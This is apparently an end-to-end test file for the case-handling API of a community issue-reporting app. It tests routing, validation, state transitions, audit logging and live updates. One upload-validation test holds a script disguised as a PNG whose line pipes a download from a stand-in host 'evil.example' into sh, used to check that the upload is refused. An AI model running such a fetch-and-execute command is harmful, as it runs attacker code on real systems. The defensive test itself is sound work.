import {
  CaseDetail,
  CaseInboxItem,
  CasePage,
  CaseSummary,
  LIVE_EVENTS,
  LIVE_NAMESPACE,
  LIVE_PATH,
  liveRoom,
  NearbyCase,
  SubmitReportRequest,
  type LiveEvent,
  type LiveSubscribeAck,
} from '@linli/shared';
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { io, type Socket } from 'socket.io-client';
import { DataSource } from 'typeorm';
import { AuditLogEntry } from '../../server/src/cases/entities/audit-log-entry.entity';
import { Case } from '../../server/src/cases/entities/case.entity';
import { CaseTimelineEntry } from '../../server/src/cases/entities/case-timeline-entry.entity';
import type { AppConfig } from '../../server/src/config/app-config';
import { Department } from '../../server/src/departments/department.entity';
import { ProblemCategory } from '../../server/src/departments/problem-category.entity';
import { DutyShift } from '../../server/src/dispatch/duty-shift.entity';
import { Grid } from '../../server/src/grids/grid.entity';
import { solidJpeg } from '../../server/src/media/image/test-images';
import { MediaFile } from '../../server/src/media/media-file.entity';
import { User } from '../../server/src/users/user.entity';
import { createOrgTree, createResidency, createUser, OrgTree, squareAround } from './support/factories';
import { startTestApp, TestApp } from './support/test-app';

// ---------------------------------------------------------------------------------------------------------
// Small factories: a grid of our own (far from the seeded district), its roster, photos, reports.

/** Test areas away from the seeded district's grids, one square of ~200 m per world. */
let area = 0;

interface CaseWorld extends OrgTree {
  /** Centre of the grid's square. */
  centre: { lng: number; lat: number };
  worker: User;
  dispatcher: User;
  committee: User;
}

/** A grid with a worker on duty around the clock (unless told otherwise), a community dispatcher and a committee member. */
async function createCaseWorld(ds: DataSource, opts: { workerOnDuty?: boolean } = {}): Promise<CaseWorld> {
  const tree = await createOrgTree(ds);
  area += 1;
  const centre = { lng: 113.6 + (area % 40) * 0.01, lat: 23.4 + Math.floor(area / 40) * 0.01 };
  await ds.getRepository(Grid).update(tree.grid.id, squareAround(centre.lng, centre.lat));
  const worker = await createUser(ds, { name: '网格员小叶', grants: [{ role: 'grid_worker', scopeId: tree.grid.id }] });
  const dispatcher = await createUser(ds, { name: '派单员老谭', grants: [{ role: 'grid_worker', scopeKind: 'community', scopeId: tree.community.id }] });
  const committee = await createUser(ds, { name: '居委何主任', grants: [{ role: 'community_committee', scopeId: tree.community.id }] });
  const shifts = ds.getRepository(DutyShift);
  for (let weekday = 0; weekday < 7; weekday++) {
    if (opts.workerOnDuty !== false) {
      await shifts.insert({ gridId: tree.grid.id, communityId: tree.community.id, userId: worker.id, weekday, startMinute: 0, endMinute: 1440, isDispatcher: false });
    }
    await shifts.insert({ gridId: null, communityId: tree.community.id, userId: dispatcher.id, weekday, startMinute: 0, endMinute: 1440, isDispatcher: true });
  }
  return { ...tree, centre, worker, dispatcher, committee };
}

async function seededCategory(ds: DataSource, code: string): Promise<{ category: ProblemCategory; department: Department; staff: User }> {
  const category = await ds.getRepository(ProblemCategory).findOneByOrFail({ code });
  const department = await ds.getRepository(Department).findOneByOrFail({ id: category.defaultDepartmentId });
  const staff = await ds.getRepository(User).findOneByOrFail({ seedKey: `staff-${department.code}` });
  return { category, department, staff };
}

const auth = (token: string) => ({ Authorization: `Bearer ${token}` });

/** Metres → degrees of latitude (close enough for offsets of a few hundred metres). */
const metres = (m: number) => m / 111_320;

function report(overrides: Partial<SubmitReportRequest> & Pick<SubmitReportRequest, 'photoIds' | 'lng' | 'lat'>): SubmitReportRequest {
  return { clientKey: randomUUID(), description: '路口有流动摊贩占道摆摊，行人只能走机动车道', address: '测试路 1 号', ...overrides };
}

describe('snap-and-report cases (/api/cases)', () => {
  let t: TestApp;
  let mediaDir: string;
  let vending: Awaited<ReturnType<typeof seededCategory>>;

  beforeAll(async () => {
    mediaDir = await mkdtemp(join(tmpdir(), 'linli-cases-e2e-'));
    t = await startTestApp({ mediaDir, redisUrl: undefined } as Partial<AppConfig>);
    vending = await seededCategory(t.dataSource, 'street-vending');
  });

  afterAll(async () => {
    await t?.close();
    await rm(mediaDir, { recursive: true, force: true });
  });

  /** A signed-in person; with a community, a verified resident of it (who may join its cases, 我也遇到). */
  async function resident(name = '街坊', verifiedIn?: number): Promise<{ user: User; token: string }> {
    const user = await createUser(t.dataSource, { name });
    if (verifiedIn !== undefined) await createResidency(t.dataSource, { userId: user.id, communityId: verifiedIn, status: 'verified' });
    return { user, token: await t.tokenFor(user.id) };
  }

  async function uploadPhoto(token: string, color = '#3366aa'): Promise<string> {
    const res = await t.request
      .post('/api/media/photos')
      .set(auth(token))
      .attach('file', await solidJpeg(64, 48, color), { filename: 'photo.jpg', contentType: 'image/jpeg' });
    if (res.status !== 201 && res.status !== 200) throw new Error(`upload failed: ${res.status} ${JSON.stringify(res.body)}`);
    return res.body.id as string;
  }

  async function submit(token: string, body: SubmitReportRequest): Promise<CaseDetail> {
    const res = await t.request.post('/api/cases').set(auth(token)).send(body);
    if (res.status !== 201) throw new Error(`submit failed: ${res.status} ${JSON.stringify(res.body)}`);
    return res.body as CaseDetail;
  }

  const act = (token: string, caseId: number, action: string, body: object = {}) =>
    t.request.post(`/api/cases/${caseId}/actions/${action}`).set(auth(token)).send(body);

  /** A fresh world and a report in the middle of its grid, under the given category (or classified). */
  async function reportedCase(opts: { categoryId?: number | null; description?: string; workerOnDuty?: boolean } = {}) {
    const world = await createCaseWorld(t.dataSource, { workerOnDuty: opts.workerOnDuty });
    const reporter = await resident('冯阿姨');
    const photoId = await uploadPhoto(reporter.token);
    const body = report({
      photoIds: [photoId],
      ...world.centre,
      ...(opts.description ? { description: opts.description } : {}),
      ...(opts.categoryId === null ? {} : { categoryId: opts.categoryId ?? vending.category.id }),
    });
    const detail = await submit(reporter.token, body);
    return { world, reporter, detail, body, tokens: { worker: await t.tokenFor(world.worker.id), dispatcher: await t.tokenFor(world.dispatcher.id), committee: await t.tokenFor(world.committee.id), staff: await t.tokenFor(vending.staff.id) } };
  }

  describe('intake and forwarding', () => {
    it('sends the case to the on-duty worker of the grid that contains the point, with the category’s deadlines', async () => {
      const { world, detail } = await reportedCase();
      expect(detail).toMatchObject({
        status: 'submitted',
        queue: 'grid',
        gridId: world.grid.id,
        communityId: world.community.id,
        categoryId: vending.category.id,
        categoryName: vending.category.name,
        handler: { userId: world.worker.id },
        classification: { routedBy: 'auto', confidence: null },
        isReporter: true,
        lastSeq: 1,
      });
      expect(detail.code).toMatch(/^YX\d{8}-\d{4,}$/);
      expect(detail.photos.before).toHaveLength(1);
      const hours = (iso: string | null) => (Date.parse(iso!) - Date.parse(detail.createdAt)) / 3_600_000;
      expect(hours(detail.responseDueAt)).toBeCloseTo(vending.category.responseHours, 1);
      expect(hours(detail.resolveDueAt)).toBeCloseTo(vending.category.resolveHours, 1);
      expect(detail.timeline.map((e) => [e.seq, e.event, e.toStatus, e.actorRole])).toEqual([[1, 'submit', 'submitted', 'reporter']]);
    });

    it('numbers the day’s reports one after another', async () => {
      const world = await createCaseWorld(t.dataSource);
      const reporter = await resident();
      const first = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: vending.category.id }));
      const second = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: vending.category.id }));
      const parse = (code: string) => /^YX(\d{8})-(\d{4,})$/.exec(code)!;
      const [a, b] = [parse(first.code), parse(second.code)];
      expect(b[1]).toBe(a[1]);
      expect(Number(b[2])).toBe(Number(a[2]) + 1);
    });

    it('routes a report into a grid drawn after the previous report, at once', async () => {
      const before = await createCaseWorld(t.dataSource);
      const reporter = await resident();
      await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...before.centre, categoryId: vending.category.id }));
      const drawnSince = await createCaseWorld(t.dataSource);
      const detail = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...drawnSince.centre, categoryId: vending.category.id }));
      expect(detail).toMatchObject({ gridId: drawnSince.grid.id, queue: 'grid', handler: { userId: drawnSince.worker.id } });
    });

    it('accepts a category added after the previous report, at once', async () => {
      const world = await createCaseWorld(t.dataSource);
      const reporter = await resident();
      await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: vending.category.id }));
      const repo = t.dataSource.getRepository(ProblemCategory);
      const added = await repo.save(
        repo.create({ code: `test-added-${randomUUID().slice(0, 8)}`, name: '共享单车乱停', groupName: '市容环境', defaultDepartmentId: vending.department.id, responseHours: 4, resolveHours: 24, keywords: ['共享单车'], sortOrder: 99 }),
      );
      const detail = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: added.id }));
      expect(detail).toMatchObject({ categoryId: added.id, categoryName: '共享单车乱停' });
      const hours = (iso: string | null) => (Date.parse(iso!) - Date.parse(detail.createdAt)) / 3_600_000;
      expect(hours(detail.responseDueAt)).toBeCloseTo(4, 1);
    });

    it('gives the case to the least loaded of two workers on duty', async () => {
      const world = await createCaseWorld(t.dataSource);
      const second = await createUser(t.dataSource, { name: '网格员小郭', grants: [{ role: 'grid_worker', scopeId: world.grid.id }] });
      for (let weekday = 0; weekday < 7; weekday++) {
        await t.dataSource.getRepository(DutyShift).insert({ gridId: world.grid.id, communityId: world.community.id, userId: second.id, weekday, startMinute: 0, endMinute: 1440, isDispatcher: false });
      }
      const reporter = await resident();
      const handlers: number[] = [];
      for (let i = 0; i < 3; i++) {
        const detail = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: vending.category.id }));
        handlers.push(detail.handler!.userId);
      }
      // Loads 0/0 → the lower id; then the other (0 < 1); then back to the first (1 = 1, lower id).
      const [low, high] = [world.worker.id, second.id].sort((a, b) => a - b);
      expect(handlers).toEqual([low, high, low]);
    });

    it('hands the case to the community dispatcher when no worker is on duty', async () => {
      const { world, detail } = await reportedCase({ workerOnDuty: false });
      expect(detail).toMatchObject({ queue: 'community_dispatch', handler: { userId: world.dispatcher.id }, classification: { routedBy: 'dispatcher' } });
    });

    it('classifies a report without a category and records the confidence', async () => {
      const { detail } = await reportedCase({ categoryId: null, description: '路口有流动摊贩占道摆摊，走鬼很多' });
      expect(detail.categoryId).toBe(vending.category.id);
      expect(detail.classification.confidence).toBeGreaterThanOrEqual(0.5);
      expect(detail.queue).toBe('grid');
    });

    it('sends a report the classifier cannot place to the dispatcher instead of guessing', async () => {
      const { world, detail } = await reportedCase({ categoryId: null, description: '阿斯顿发送到发阿斯蒂芬' });
      expect(detail).toMatchObject({ categoryId: null, queue: 'community_dispatch', handler: { userId: world.dispatcher.id }, classification: { routedBy: 'dispatcher' } });
      expect(detail.classification.confidence).toBeLessThan(0.5);
      expect(detail.resolveDueAt).toBeNull();
      const inbox = await t.request.get('/api/inbox?scope=dispatch').set(auth(await t.tokenFor(world.dispatcher.id)));
      expect(inbox.status).toBe(200);
      expect((inbox.body as CasePage<CaseInboxItem>).items.map((i) => i.id)).toContain(detail.id);
    });

    it('keeps a point outside every grid in the street’s dispatch queue, a far one in the district’s, and refuses one outside the district', async () => {
      const world = await createCaseWorld(t.dataSource);
      const reporter = await resident();
      const nearStreet = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], lng: world.centre.lng, lat: world.centre.lat + metres(500), categoryId: vending.category.id }));
      expect(nearStreet).toMatchObject({ status: 'submitted', gridId: null, communityId: null, queue: 'street_dispatch', handler: null });
      const stored = await t.dataSource.getRepository(Case).findOneByOrFail({ id: nearStreet.id });
      expect(stored.streetId).toBe(world.street.id);
      // Between the seeded district's grids (113.24–113.31) and the test worlds' (113.6 on): inside the area they span.
      const far = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], lng: 113.45, lat: 23.27, categoryId: vending.category.id }));
      expect(far).toMatchObject({ gridId: null, queue: 'district_dispatch' });
      const elsewhere = await t.request.post('/api/cases').set(auth(reporter.token)).send(report({ photoIds: [await uploadPhoto(reporter.token)], lng: 100.5, lat: 30.5 }));
      expect(elsewhere.status).toBe(422);
      expect(elsewhere.body.error).toBe('outside_service_area');
    });

    it('returns the same case for five concurrent submissions with one client key', async () => {
      const world = await createCaseWorld(t.dataSource);
      const reporter = await resident();
      const body = report({ photoIds: [await uploadPhoto(reporter.token), await uploadPhoto(reporter.token, '#aa3366')], ...world.centre, categoryId: vending.category.id });
      const responses = await Promise.all(Array.from({ length: 5 }, () => t.request.post('/api/cases').set(auth(reporter.token)).send(body)));
      expect(responses.map((r) => r.status).sort()).toEqual([200, 200, 200, 200, 201]);
      expect(new Set(responses.map((r) => r.body.id)).size).toBe(1);
      expect(await t.dataSource.getRepository(Case).countBy({ reporterId: reporter.user.id, clientKey: body.clientKey })).toBe(1);
      const again = await t.request.post('/api/cases').set(auth(reporter.token)).send(body);
      expect(again.status).toBe(200);
      expect(again.body.photos.before).toHaveLength(2);
    });

    describe('refuses bad input with a clear error and stores nothing', () => {
      let world: CaseWorld;
      let reporter: { user: User; token: string };
      beforeAll(async () => {
        world = await createCaseWorld(t.dataSource);
        reporter = await resident();
      });
      const casesOfReporter = () => t.dataSource.getRepository(Case).countBy({ reporterId: reporter.user.id });

      it('refuses a report without a photo', async () => {
        const res = await t.request.post('/api/cases').set(auth(reporter.token)).send(report({ photoIds: [], ...world.centre }));
        expect(res.status).toBe(400);
        expect(res.body).toMatchObject({ statusCode: 400, error: 'validation_failed' });
        expect(res.body.message).toContain('照片');
        expect(await casesOfReporter()).toBe(0);
      });

      it('refuses a 5,000-character description', async () => {
        const res = await t.request
          .post('/api/cases')
          .set(auth(reporter.token))
          .send(report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, description: '占'.repeat(5000) }));
        expect(res.status).toBe(400);
        expect(res.body.details.map((d: { field: string }) => d.field)).toEqual(['description']);
        expect(await casesOfReporter()).toBe(0);
      });

      it('refuses a category that does not exist', async () => {
        const res = await t.request.post('/api/cases').set(auth(reporter.token)).send(report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: 999_999 }));
        expect(res.status).toBe(422);
        expect(res.body).toMatchObject({ error: 'unprocessable', message: expect.stringContaining('类别') });
        expect(await casesOfReporter()).toBe(0);
      });

      it('refuses a "PNG" that is really a script at upload, so it can never be attached', async () => {
        const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
        const upload = await t.request.post('/api/media/photos').set(auth(reporter.token)).attach('file', script, { filename: 'photo.png', contentType: 'image/png' });
        expect(upload.status).toBe(422);
        expect(upload.body.error).toBe('unsupported_image_type');
      });

      it('stores nothing when one of the photos is not the reporter’s, and leaves the good photo free for a retry', async () => {
        const good = await uploadPhoto(reporter.token);
        const someoneElse = await resident();
        const theirs = await uploadPhoto(someoneElse.token);
        const body = report({ photoIds: [good, theirs], ...world.centre, categoryId: vending.category.id });
        const res = await t.request.post('/api/cases').set(auth(reporter.token)).send(body);
        expect(res.status).toBe(422);
        expect(res.body.details).toEqual({ invalidPhotoIds: [theirs] });
        expect(await casesOfReporter()).toBe(0);
        expect(await t.dataSource.getRepository(MediaFile).findOneByOrFail({ id: good })).toMatchObject({ attachedTo: null });
        const retry = await t.request.post('/api/cases').set(auth(reporter.token)).send({ ...body, photoIds: [good] });
        expect(retry.status).toBe(201);
      });

      it('refuses a visitor', async () => {
        const res = await t.request.post('/api/cases').send(report({ photoIds: ['x'], ...world.centre }));
        expect(res.status).toBe(401);
      });
    });
  });

  describe('nearby reports and 我也遇到', () => {
    it('offers an open report of the same kind nearby, and joining makes the neighbour a follower', async () => {
      const { detail, world } = await reportedCase();
      const neighbour = await resident('李伯', world.community.id);
      const here = { lng: world.centre.lng, lat: world.centre.lat + metres(60) };
      const nearby = await t.request.get('/api/cases/nearby').query({ ...here, categoryId: vending.category.id }).set(auth(neighbour.token));
      expect(nearby.status).toBe(200);
      const found = (nearby.body as NearbyCase[]).find((c) => c.id === detail.id);
      expect(found).toMatchObject({ code: detail.code, isFollowing: false, isReporter: false, followerCount: 0 });
      expect(found!.distanceMeters).toBeGreaterThan(40);
      expect(found!.distanceMeters).toBeLessThan(80);

      const tooFar = await t.request.get('/api/cases/nearby').query({ ...here, radius: 30 }).set(auth(neighbour.token));
      expect((tooFar.body as NearbyCase[]).map((c) => c.id)).not.toContain(detail.id);
      const otherKind = await t.request.get('/api/cases/nearby').query({ ...here, categoryId: vending.category.id + 1 }).set(auth(neighbour.token));
      expect((otherKind.body as NearbyCase[]).map((c) => c.id)).not.toContain(detail.id);

      expect((await t.request.get(`/api/cases/${detail.id}`).set(auth(neighbour.token))).status).toBe(404);
      for (let i = 0; i < 2; i++) {
        const joined = await t.request.post(`/api/cases/${detail.id}/follow`).set(auth(neighbour.token));
        expect(joined.status).toBe(200);
        expect(joined.body).toMatchObject({ view: 'public', isFollowing: true, followerCount: 1 });
      }
      expect((await t.request.get(`/api/cases/${detail.id}`).set(auth(neighbour.token))).body).toMatchObject({ view: 'public', id: detail.id });
      const mine = await t.request.get('/api/cases/mine').set(auth(neighbour.token));
      expect((mine.body as CasePage<CaseSummary>).items.map((c) => c.id)).toEqual([detail.id]);
    });
  });

  it('looks back only as many days as asked when offering nearby reports', async () => {
    const { detail, world } = await reportedCase();
    const tenDaysAgo = new Date(Date.now() - 10 * 24 * 3_600_000);
    await t.dataSource.getRepository(Case).update(detail.id, { createdAt: tenDaysAgo });
    const neighbour = await resident('街坊', world.community.id);
    const ids = async (days?: number) =>
      ((await t.request.get('/api/cases/nearby').query({ ...world.centre, ...(days ? { days } : {}) }).set(auth(neighbour.token))).body as NearbyCase[]).map((c) => c.id);
    expect(await ids()).not.toContain(detail.id);
    expect(await ids(9)).not.toContain(detail.id);
    expect(await ids(11)).toContain(detail.id);
    const bad = await t.request.get('/api/cases/nearby').query({ ...world.centre, days: 0 }).set(auth(neighbour.token));
    expect(bad.status).toBe(400);
  });

  it('routes a report in the demo district’s first grid to its worker or, off duty, the community’s dispatcher', async () => {
    const grid = await t.dataSource.getRepository(Grid).findOneByOrFail({ code: '440104001001-01' });
    const ring = (JSON.parse(grid.polygon) as { coordinates: number[][][] }).coordinates[0].slice(1);
    const centre = { lng: ring.reduce((s, p) => s + p[0], 0) / ring.length, lat: ring.reduce((s, p) => s + p[1], 0) / ring.length };
    const users = t.dataSource.getRepository(User);
    const worker = await users.findOneByOrFail({ seedKey: 'worker-g001' });
    const dispatcher = await users.findOneByOrFail({ seedKey: 'dispatcher-c01' });
    const reporter = await users.findOneByOrFail({ seedKey: 'resident-c01-001' });
    const token = await t.tokenFor(reporter.id);
    const detail = await submit(token, report({ photoIds: [await uploadPhoto(token)], ...centre, categoryId: vending.category.id }));
    expect(detail.gridId).toBe(grid.id);
    expect([
      { queue: 'grid', handler: worker.id },
      { queue: 'community_dispatch', handler: dispatcher.id },
    ]).toContainEqual({ queue: detail.queue, handler: detail.handler?.userId });
  });

  describe('handling', () => {
    it('walks a report from the worker to a department and back to the resident’s rating, recording every step', async () => {
      const { detail, reporter, tokens, world } = await reportedCase();
      expect((await act(tokens.worker, detail.id, 'accept')).status).toBe(200);
      const dispatched = await act(tokens.worker, detail.id, 'dispatch', { note: '请城管到场处理' });
      expect(dispatched.status).toBe(200);
      expect(dispatched.body).toMatchObject({ status: 'dispatched', departments: [{ id: vending.department.id, role: 'lead' }] });

      const staffInbox = await t.request.get('/api/inbox').set(auth(tokens.staff));
      const item = (staffInbox.body as CasePage<CaseInboxItem>).items.find((i) => i.id === detail.id);
      expect(item).toMatchObject({ scope: 'department', myActor: 'department_staff', availableActions: ['return', 'start'] });

      expect((await act(tokens.staff, detail.id, 'start')).status).toBe(200);
      const noPhoto = await act(tokens.staff, detail.id, 'resolve', { note: '已劝离', photoIds: [] });
      expect(noPhoto.status).toBe(400);
      const afterPhoto = await uploadPhoto(tokens.staff, '#22aa55');
      const resolved = await act(tokens.staff, detail.id, 'resolve', { note: '已劝离摊贩并清理路面', photoIds: [afterPhoto] });
      expect(resolved.status).toBe(200);
      expect(resolved.body.photos.after.map((p: { id: string }) => p.id)).toEqual([afterPhoto]);

      const rated = await act(reporter.token, detail.id, 'rate', { score: 5, comment: '很快就处理好了' });
      expect(rated.status).toBe(200);
      const final = rated.body as CaseDetail;
      expect(final).toMatchObject({ status: 'closed', rating: { score: 5, comment: '很快就处理好了' }, handler: { userId: world.worker.id } });
      expect(final.closedAt).not.toBeNull();
      expect(final.timeline.map((e) => [e.seq, e.event, e.fromStatus, e.toStatus, e.actorRole])).toEqual([
        [1, 'submit', null, 'submitted', 'reporter'],
        [2, 'accept', 'submitted', 'accepted', 'grid_worker'],
        [3, 'dispatch', 'accepted', 'dispatched', 'grid_worker'],
        [4, 'start', 'dispatched', 'in_progress', 'department_staff'],
        [5, 'resolve', 'in_progress', 'resolved', 'department_staff'],
        [6, 'rate_satisfied', 'resolved', 'closed', 'reporter'],
      ]);
      expect(final.timeline[2]).toMatchObject({ actorRoleLabel: '网格员', note: '请城管到场处理', data: { departmentId: vending.department.id } });

      const audit = await t.dataSource.getRepository(AuditLogEntry).find({ where: { entity: 'case', entityId: String(detail.id) }, order: { id: 'ASC' } });
      expect(audit.map((a) => a.action)).toEqual(['submit', 'accept', 'dispatch', 'start', 'resolve', 'rate_satisfied']);
      expect(audit[1]).toMatchObject({ actorUserId: world.worker.id, before: { status: 'submitted' }, after: { status: 'accepted' } });
      expect(audit.every((a) => typeof a.requestId === 'string' && a.requestId.length > 0)).toBe(true);
      expect(await t.dataSource.getRepository(CaseTimelineEntry).countBy({ caseId: detail.id })).toBe(6);
    });

    it('refuses a move the state machine does not allow with 409 and the reason in Chinese', async () => {
      const { detail, reporter, tokens } = await reportedCase();
      const rate = await act(reporter.token, detail.id, 'rate', { score: 5 });
      expect(rate.status).toBe(409);
      expect(rate.body).toMatchObject({ statusCode: 409, error: 'conflict', message: expect.stringContaining('已提交') });
      // The department has no part in the case yet, so to its staff the case is not there.
      const start = await act(tokens.staff, detail.id, 'start');
      expect(start.status).toBe(404);
      const stored = await t.dataSource.getRepository(Case).findOneByOrFail({ id: detail.id });
      expect(stored).toMatchObject({ status: 'submitted', version: 1, timelineSeq: 1 });
    });

    it('answers a worker of another grid as if the case did not exist, on the case page and on actions', async () => {
      const { detail } = await reportedCase();
      const elsewhere = await createCaseWorld(t.dataSource);
      const stranger = await t.tokenFor(elsewhere.worker.id);
      expect((await t.request.get(`/api/cases/${detail.id}`).set(auth(stranger))).status).toBe(404);
      const accept = await act(stranger, detail.id, 'accept');
      expect(accept.status).toBe(404);
      expect(accept.body.error).toBe('not_found');
      expect(accept.body.message).toBe((await act(stranger, 99999999, 'accept')).body.message);
      expect((await t.request.get(`/api/cases/${detail.id}`)).status).toBe(401);
      expect((await t.request.get('/api/cases/99999999').set(auth(stranger))).status).toBe(404);
    });

    it('lets only one of two handlers acting at once win', async () => {
      const { detail, tokens } = await reportedCase();
      const [a, b] = await Promise.all([act(tokens.worker, detail.id, 'accept'), act(tokens.dispatcher, detail.id, 'accept')]);
      expect([a.status, b.status].sort()).toEqual([200, 409]);
      const stale = await act(tokens.worker, detail.id, 'escalate', { note: '需要支援', expectedVersion: 1 });
      expect(stale.status).toBe(409);
      const stored = await t.dataSource.getRepository(Case).findOneByOrFail({ id: detail.id });
      expect(stored.version).toBe(2);
      expect(await t.dataSource.getRepository(CaseTimelineEntry).countBy({ caseId: detail.id })).toBe(2);
    });

    it('shows the resident why a duplicate was rejected and makes them follow the original', async () => {
      const first = await reportedCase();
      const second = await submit(first.reporter.token, report({ photoIds: [await uploadPhoto(first.reporter.token)], ...first.world.centre, categoryId: vending.category.id }));
      const other = await resident('陈姐');
      const dup = await submit(other.token, report({ photoIds: [await uploadPhoto(other.token)], ...first.world.centre, categoryId: vending.category.id }));
      const rejected = await act(first.tokens.worker, dup.id, 'reject', { kind: 'duplicate', reason: '与已受理的反映重复', duplicateOfCaseId: second.id });
      expect(rejected.status).toBe(200);
      const seen = await t.request.get(`/api/cases/${dup.id}`).set(auth(other.token));
      expect(seen.body).toMatchObject({ status: 'rejected', rejection: { kind: 'duplicate', reason: '与已受理的反映重复' } });
      expect(seen.body.timeline.at(-1)).toMatchObject({ event: 'reject', note: '与已受理的反映重复', data: { duplicateOfCaseId: second.id } });
      const original = await t.request.get(`/api/cases/${second.id}`).set(auth(other.token));
      expect(original.status).toBe(200);
      expect(original.body.isFollowing).toBe(true);
    });

    it('lets a department return a case with a reason, back to the worker', async () => {
      const { detail, tokens, world } = await reportedCase();
      await act(tokens.worker, detail.id, 'accept');
      await act(tokens.worker, detail.id, 'dispatch', {});
      const returned = await act(tokens.staff, detail.id, 'return', { reason: '不属于本部门职责' });
      expect(returned.status).toBe(200);
      expect(returned.body).toMatchObject({ status: 'returned', departments: [] });
      expect(returned.body.timeline.at(-1)).toMatchObject({ event: 'return', note: '不属于本部门职责', actorRole: 'department_staff' });
      const inbox = await t.request.get('/api/inbox').set(auth(tokens.worker));
      const item = (inbox.body as CasePage<CaseInboxItem>).items.find((i) => i.id === detail.id);
      expect(item).toMatchObject({ scope: 'assigned', status: 'returned' });
      expect(item!.availableActions).toEqual(expect.arrayContaining(['dispatch', 'start']));
      // Returned, the case is no longer the department's: to its staff it is not there.
      expect((await act(tokens.staff, detail.id, 'start')).status).toBe(404);
      expect(world.worker.id).toBe(returned.body.handler.userId);
    });

    it('brings in co-handling departments under a lead, and refuses a department that does not exist', async () => {
      const { detail, tokens } = await reportedCase();
      await act(tokens.worker, detail.id, 'accept');
      const co = await seededCategory(t.dataSource, 'illegal-posting');
      const other = await t.dataSource.getRepository(Department).findOneByOrFail({ code: 'jiaojing' });
      const bad = await act(tokens.worker, detail.id, 'dispatch', { departmentId: 999_999 });
      expect(bad.status).toBe(422);
      const res = await act(tokens.worker, detail.id, 'dispatch', { departmentId: other.id, coDepartmentIds: [co.department.id === other.id ? vending.department.id : co.department.id] });
      expect(res.status).toBe(200);
      expect(res.body.departments.map((d: { role: string }) => d.role)).toEqual(['lead', 'co']);
      expect(res.body.departments[0].id).toBe(other.id);
    });

    it('reopens an unsatisfied case once to the community’s dispatcher, then closes on the second unsatisfied rating', async () => {
      const { detail, reporter, tokens, world } = await reportedCase();
      await act(tokens.worker, detail.id, 'accept');
      await act(tokens.worker, detail.id, 'start');
      const photo1 = await uploadPhoto(tokens.worker);
      expect((await act(tokens.worker, detail.id, 'resolve', { note: '已处理', photoIds: [photo1] })).status).toBe(200);
      const unhappy = await act(reporter.token, detail.id, 'rate', { score: 2, comment: '摊贩第二天又来了' });
      expect(unhappy.body).toMatchObject({ status: 'reopened', reopenCount: 1, queue: 'community_dispatch', handler: { userId: world.dispatcher.id } });
      const committeeInbox = await t.request.get('/api/inbox?scope=dispatch').set(auth(tokens.committee));
      expect((committeeInbox.body as CasePage<CaseInboxItem>).items.map((i) => i.id)).toContain(detail.id);

      await act(tokens.dispatcher, detail.id, 'dispatch', {});
      await act(tokens.staff, detail.id, 'start');
      await act(tokens.staff, detail.id, 'resolve', { note: '已联合执法', photoIds: [await uploadPhoto(tokens.staff)] });
      const second = await act(reporter.token, detail.id, 'rate', { score: 1 });
      expect(second.body).toMatchObject({ status: 'closed', reopenCount: 1, rating: { score: 1 } });
    });
  });

  describe('live updates', () => {
    let baseUrl: string;
    const sockets: Socket[] = [];
    beforeAll(async () => {
      await t.app.listen(0, '127.0.0.1');
      const { port } = t.app.getHttpServer().address() as AddressInfo;
      baseUrl = `http://127.0.0.1:${port}`;
    });
    afterEach(() => sockets.splice(0).forEach((s) => s.disconnect()));

    async function connect(token: string): Promise<Socket> {
      const socket = io(`${baseUrl}${LIVE_NAMESPACE}`, { path: LIVE_PATH, auth: { token }, transports: ['websocket'], reconnection: false, forceNew: true });
      sockets.push(socket);
      await new Promise<void>((resolve, reject) => {
        socket.once('connect', () => resolve());
        socket.once('connect_error', reject);
      });
      return socket;
    }

    const subscribe = (socket: Socket, room: string, afterSeq?: number): Promise<LiveSubscribeAck> =>
      socket.timeout(5000).emitWithAck(LIVE_EVENTS.subscribe, afterSeq === undefined ? { room } : { room, afterSeq });

    it('pushes each transition to the resident watching the case, and replays what they missed', async () => {
      const { detail, reporter, tokens } = await reportedCase();
      const socket = await connect(reporter.token);
      const events: LiveEvent[] = [];
      const arrived = new Promise<void>((resolve) =>
        socket.on(LIVE_EVENTS.live, (event: LiveEvent) => {
          events.push(event);
          if (events.some((e) => e.seq === 2)) resolve();
        }),
      );
      const room = liveRoom('case', detail.id);
      expect(await subscribe(socket, room, detail.lastSeq)).toEqual({ ok: true, room, lastSeq: 1 });
      expect((await act(tokens.worker, detail.id, 'accept')).status).toBe(200);
      await arrived;
      expect(events[0]).toMatchObject({ room, seq: 2, type: 'case.timeline', data: { caseId: detail.id, status: 'accepted', entry: { event: 'accept', actorRole: 'grid_worker' } } });

      const late = await connect(reporter.token);
      const replay: LiveEvent[] = [];
      late.on(LIVE_EVENTS.live, (event: LiveEvent) => replay.push(event));
      expect(await subscribe(late, room, 0)).toEqual({ ok: true, room, lastSeq: 2 });
      expect(replay.map((e) => e.seq)).toEqual([1, 2]);
    });

    it('nudges the worker’s own inbox room when a new report is routed to them', async () => {
      const world = await createCaseWorld(t.dataSource);
      const socket = await connect(await t.tokenFor(world.worker.id));
      const room = liveRoom('inbox:user', world.worker.id);
      expect(await subscribe(socket, room)).toMatchObject({ ok: true, room });
      const nudged = new Promise<LiveEvent>((resolve) => socket.on(LIVE_EVENTS.live, (event: LiveEvent) => resolve(event)));
      const reporter = await resident();
      const detail = await submit(reporter.token, report({ photoIds: [await uploadPhoto(reporter.token)], ...world.centre, categoryId: vending.category.id }));
      expect(await nudged).toMatchObject({ room, type: 'case.inbox', data: { caseId: detail.id, code: detail.code, status: 'submitted', event: 'submit' } });
    });

